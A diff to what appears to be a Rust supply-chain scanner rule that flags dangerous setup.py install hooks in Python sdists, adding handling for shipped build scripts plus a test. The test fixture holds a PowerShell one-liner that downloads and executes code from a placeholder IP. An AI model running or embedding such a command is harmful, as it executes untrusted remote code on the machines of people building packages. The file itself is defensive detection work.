@@ -1,3 +1,4 @@
+use super::shell_command::shipped_script;
 use super::vocab;
 use crate::declare_rule;
 use crate::inspect::python::Call;
@@ -88,7 +89,10 @@ impl Rule for InstallHook {
                                     } else {
                                         vocab::dangerous_fragment(s).is_some()
                                     }
-                                }))
+                                })
+                                // The sdist's own build script run by its shell (`powershell
+                                // .\build.ps1`) is read by shell-command, not assumed (issue 11).
+                                && !shipped_script(analysis, c).is_some_and(|s| !vocab::is_strong_command(&s)))
                     })
                     .collect();
                 // A hook that only fetches (prebuilt binaries, a CA bundle) is a build step:
@@ -139,6 +143,21 @@ mod tests {
         // Fetching a prebuilt file in a build command: a medium note (install-network weighs the fetch).
         let src = "from setuptools.command.build_py import build_py\nimport urllib.request\nclass B(build_py):\n    def run(self):\n        urllib.request.urlretrieve(CA_URL, 'pkg/ca.pem')\n        build_py.run(self)\n";
         assert_eq!(setup_py(&InstallHook, src)[0].severity, Severity::Medium);
+    }
+
+    #[test]
+    fn a_shipped_build_script_is_read_not_assumed() {
+        // No error: build_ext running the toolchain script the sdist ships.
+        let setup = "from setuptools.command.build_ext import build_ext\nimport subprocess\nclass B(build_ext):\n    def build_extension(self, ext):\n        subprocess.Popen(['powershell.exe', '.\\\\build_extension.ps1'])\n";
+        let script = "cmake -S . -B build\ncmake --build build\n";
+        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
+        let f = crate::inspect::testing::check(&InstallHook, crate::archive::Kind::Sdist, &files);
+        assert!(f.is_empty(), "{f:?}");
+        // Error: the shipped script downloads and runs code itself.
+        let script = "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n";
+        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
+        let f = crate::inspect::testing::check(&InstallHook, crate::archive::Kind::Sdist, &files);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
     }
 
     #[test]
